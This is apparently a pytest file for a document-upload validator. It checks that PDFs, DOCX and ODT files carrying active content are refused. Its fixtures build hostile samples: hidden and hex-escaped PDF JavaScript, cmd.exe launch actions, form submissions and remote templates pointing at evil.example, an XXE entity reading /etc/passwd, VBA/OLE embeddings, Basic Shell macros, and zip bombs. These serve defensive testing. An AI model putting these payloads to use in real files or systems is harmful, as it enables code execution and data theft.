"""Active content is refused however it is hidden: PDFs are read by a PDF library (object streams decoded, names
un-escaped), Office parts are matched case-insensitively, OpenDocument macros and zip bombs are refused."""

from __future__ import annotations

import io
import zipfile

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from bakuhub.core import files
from bakuhub.core.errors import ValidationFailed
from bakuhub.core.files import DOCX_MIME, ODT_MIME, check_document
from bakuhub.testing.files import pdf_bytes, pdf_with_javascript

MB = 1024 * 1024


def check(content: bytes) -> files.Checked:
    return check_document(SimpleUploadedFile("file.pdf", content), max_bytes=20 * MB)


def refused(content: bytes) -> str:
    with pytest.raises(ValidationFailed) as failure:
        check(content)
    assert failure.value.errors == {"file": [failure.value.message]}
    return failure.value.message


def saved(pdf: pikepdf.Pdf, **options: object) -> bytes:
    buffer = io.BytesIO()
    pdf.save(buffer, **options)  # type: ignore[arg-type]
    return buffer.getvalue()


def pdf_with_annotation_action(action: pikepdf.Dictionary) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10], A=action)
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


# --- PDF ----------------------------------------------------------------------------------------------------------


def test_it_accepts_a_plain_pdf():
    assert check(pdf_bytes("Memorandum")).mime == "application/pdf"


def test_it_refuses_javascript_inside_a_compressed_object_stream():
    content = pdf_with_javascript(in_object_stream=True)
    assert b"/JavaScript" not in content and b"/JS" not in content  # invisible to a byte scan
    assert "JavaScript" in refused(content)


def test_it_refuses_a_hex_escaped_javascript_name():
    content = pdf_with_javascript(in_object_stream=False)
    escaped = content.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
    assert b"/JavaScript" not in escaped
    assert "JavaScript" in refused(escaped)


@pytest.mark.parametrize(
    "action",
    [
        pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:alert(1)")),
        pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("file:///C:/Windows/system32/cmd.exe")),
        pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")),
        pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/")),
        pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=pikepdf.String("data.fdf")),
    ],
    ids=["javascript-uri", "file-uri", "launch", "submit-form", "import-data"],
)
def test_it_refuses_actions_that_open_addresses_files_or_forms(action):
    assert "actions that open addresses, files or forms" in refused(pdf_with_annotation_action(action))


@pytest.mark.parametrize("address", ["https://www.un.org/en/climatechange", "mailto:hub@example.org"])
def test_it_accepts_an_ordinary_hyperlink(address):
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(address))
    assert check(pdf_with_annotation_action(action)).extension == "pdf"


def test_it_refuses_a_web_address_that_opens_by_itself_with_the_document():
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example/"))
    assert "actions that open addresses" in refused(saved(pdf))


def test_it_refuses_additional_actions_on_a_page():
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0])))
    assert "JavaScript or actions" in refused(saved(pdf))


def test_it_refuses_embedded_files():
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ...", filename="payload.exe")
    assert "embedded files" in refused(saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate))


def test_an_open_action_that_only_goes_to_a_page_is_accepted():
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]))
    assert check(saved(pdf)).extension == "pdf"


def test_an_open_action_that_only_shows_a_page_is_accepted():
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
    assert check(saved(pdf)).extension == "pdf"


def test_it_refuses_an_encrypted_pdf():
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    content = saved(pdf, encryption=pikepdf.Encryption(owner="owner", user="", R=6))
    assert "encrypted" in refused(content)


def test_it_refuses_a_pdf_it_cannot_read():
    assert "cannot be read" in refused(b"%PDF-1.7\n" + b"x" * 200)


# --- DOCX ---------------------------------------------------------------------------------------------------------

RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
MAIN = DOCX_MIME + ".main+xml"


def docx(
    *, content_types: str = "", extra: tuple[tuple[str, bytes], ...] = (), document_rels: str = "", main: str = MAIN
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main}"/>{content_types}</Types>',
        )
        archive.writestr(
            "_rels/.rels",
            f'<?xml version="1.0"?><Relationships xmlns="{RELS_NS}"><Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            'Target="word/document.xml"/></Relationships>',
        )
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr(
            "word/_rels/document.xml.rels",
            f'<?xml version="1.0"?><Relationships xmlns="{RELS_NS}">{document_rels}</Relationships>',
        )
        for name, data in extra:
            archive.writestr(name, data)
    return buffer.getvalue()


def test_it_accepts_a_plain_docx():
    assert check(docx()).mime == DOCX_MIME


def test_it_refuses_a_macro_enabled_content_type_in_another_case():
    assert "contains macros" in refused(docx(main="application/VND.MS-WORD.DOCUMENT.MACROENABLED.MAIN+XML"))


def test_it_refuses_a_renamed_vba_part_linked_by_its_relationship():
    relation = (
        '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/VBAPROJECT" '
        'Target="innocent.dat"/>'
    )
    assert "contains macros" in refused(docx(document_rels=relation, extra=(("word/innocent.dat", b"\0" * 20),)))


def test_it_refuses_a_renamed_vba_part_found_by_its_content_type():
    content_type = '<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>'
    assert "contains macros" in refused(docx(content_types=content_type, extra=(("word/innocent.dat", b"\0"),)))


def test_it_refuses_activex_and_ole_embeddings():
    relation = (
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
        'Target="embeddings/thing.bin"/>'
    )
    assert "ActiveX controls or embedded objects" in refused(docx(document_rels=relation))


def test_it_refuses_a_template_loaded_from_the_internet():
    relation = (
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
    )
    assert "template" in refused(docx(document_rels=relation))


def test_it_does_not_resolve_external_entities_in_content_types():
    entity = (
        b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Override PartName="/word/document.xml" ContentType="&x;"/></Types>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", entity)
        archive.writestr("word/document.xml", "<w:document/>")
    assert "Only PDF, DOCX or ODT" in refused(buffer.getvalue())


# --- ODT and zip bombs --------------------------------------------------------------------------------------------


def odt(*extra: tuple[str, bytes], manifest: bytes = b"<manifest:manifest/>") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", ODT_MIME, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", b"<office:document-content/>")
        archive.writestr("META-INF/manifest.xml", manifest)
        for name, data in extra:
            archive.writestr(name, data)
    return buffer.getvalue()


def test_it_accepts_a_plain_odt():
    assert check(odt()).mime == ODT_MIME


@pytest.mark.parametrize(
    "extra",
    [
        ("Basic/Standard/Module1.xml", b'<script:module>Shell("calc")</script:module>'),
        ("Scripts/python/run.py", b"import os"),
    ],
    ids=["basic", "python-script"],
)
def test_it_refuses_an_odt_with_macros(extra):
    assert "macros or scripts" in refused(odt(extra))


def test_it_refuses_an_odt_whose_manifest_lists_macros():
    manifest = (
        b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        b'<manifest:file-entry manifest:full-path="basic/Standard/" manifest:media-type="application/binary"/>'
        b"</manifest:manifest>"
    )
    assert "macros or scripts" in refused(odt(manifest=manifest))


def test_it_refuses_a_zip_bomb_before_unpacking_it(monkeypatch):
    monkeypatch.setattr(files, "ZIP_MAX_UNCOMPRESSED", 1000)
    assert "unpacks to more than" in refused(docx(extra=(("word/media/big.xml", b"0" * 5000),)))


def test_it_refuses_too_many_members(monkeypatch):
    monkeypatch.setattr(files, "ZIP_MAX_MEMBERS", 5)
    assert "unpacks to more than" in refused(odt(*[(f"Pictures/{i}.png", b"x") for i in range(5)]))


# --- no false alarms on ordinary documents ------------------------------------------------------------------------


def test_an_odt_that_mentions_macro_in_its_text_is_accepted():
    content = odt(("styles.xml", b"<office:text><text:p>Macro: economic outlook for 2026</text:p></office:text>"))
    assert check(content).mime == ODT_MIME


def test_an_odt_whose_link_runs_a_macro_is_refused():
    link = b'<text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic">x</text:a>'
    assert "macros or scripts" in refused(odt(("styles.xml", link)))


def test_a_docx_with_a_chart_workbook_is_accepted():
    relation = (
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/package" '
        'Target="embeddings/Microsoft_Excel_Worksheet.xlsx"/>'
    )
    assert (
        check(docx(document_rels=relation, extra=(("word/embeddings/Microsoft_Excel_Worksheet.xlsx", b"PK"),))).mime
        == DOCX_MIME
    )


def test_a_pdf_with_an_xfa_form_is_refused():
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.String("<xdp/>"))
    assert "JavaScript or actions" in refused(saved(pdf))
